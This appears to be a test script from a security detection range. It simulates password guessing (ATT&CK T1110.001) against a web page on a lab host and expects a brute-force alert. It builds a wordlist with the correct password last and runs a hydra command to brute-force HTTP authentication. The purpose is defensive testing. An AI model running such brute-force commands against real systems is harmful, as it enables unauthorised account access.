# SPDX-License-Identifier: Apache-2.0
# what: passwords guessed at a web page, the last is right
# technique: T1110.001
# from: ws1
# to: lin1
# account: op
# outcome: success
# must: alert brute
. "$RANGE_HERE/item.sh"
{ passwords 40; echo "$UNIX_PASSWORD"; } >"$HOME/passwords"
says "password: $UNIX_PASSWORD" hydra -I -l op -P "$HOME/passwords" -t 4 -f http-get://$lin1/private/
